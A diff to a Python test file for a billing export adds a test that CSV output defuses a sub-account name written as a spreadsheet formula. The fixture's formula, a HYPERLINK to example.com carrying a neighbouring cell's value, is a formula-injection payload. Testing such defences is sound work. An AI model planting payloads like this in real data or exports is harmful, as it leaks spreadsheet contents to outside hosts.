@@ -18,9 +18,14 @@ from pyarrow import parquet
 from rest_framework.test import APIClient
 
 from billing import credit_notes, drafts, export_api, exports, focus, invoicing, posting, spans
+from billing.files import inert
 from billing.models import Credit, CreditNote, Discount, Invoice, LedgerEntry, Price
+from portal.models import Appcode
 from tests.billing.test_invoices import APRIL, DAY, HOUR, IN_APRIL, IN_MAY, MARCH, MAY, at, pod, record
 from tests.focus.validator import validate
+
+# As nobody can call an appcode any more, but some may be called.
+FORMULA = '=HYPERLINK("http://example.com/?"&A2,"pay")'
 
 
 def read(month: dt.date, appcodes: list[int] | None = None) -> list[dict[str, str]]:
@@ -36,6 +41,7 @@ def total(rows: list[dict[str, str]], column: str = "BilledCost") -> Decimal:
 def months(people):
     """Two closed months with discounts, a special price, a move to another business line, a correction, late usage, credits and a
     credit note, and one that is open."""
+    Appcode.objects.filter(pk=people.flight.pk).update(name=FORMULA)
     since = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
     for sku, per_hour in (
         ("gpu", "1.2"),
@@ -140,11 +146,21 @@ def test_parquet_says_the_same_as_csv(months, tmp_path):
     file.write_bytes(b"".join(exports.chunks(APRIL, None, "parquet")))
     table = parquet.read_table(file)
     assert table.column_names == list(focus.COLUMNS)
-    told = [{name: focus.text(value) for name, value in row.items()} for row in table.to_pylist()]
+    told = [{name: focus.text(inert(value)) for name, value in row.items()} for row in table.to_pylist()]
     assert told == read(APRIL)
     empty = tmp_path / "empty.parquet"
     empty.write_bytes(b"".join(exports.chunks(dt.date(2020, 1, 1), None, "parquet")))
     assert parquet.read_table(empty).num_rows == 0
+
+
+def test_a_name_that_is_a_formula_reaches_no_spreadsheet(months, tmp_path):
+    rows = read(APRIL)
+    assert {row["SubAccountName"] for row in rows if row["SubAccountId"] == "flight-demo"} == {f"'{FORMULA}"}
+    # Amounts are what they were, also those below nothing.
+    assert any(row["BilledCost"].startswith("-") for row in rows)
+    file = tmp_path / "april.parquet"
+    file.write_bytes(b"".join(exports.chunks(APRIL, None, "parquet")))
+    assert FORMULA in parquet.read_table(file).column("SubAccountName").to_pylist()
 
 
 @pytest.mark.timeout(600)
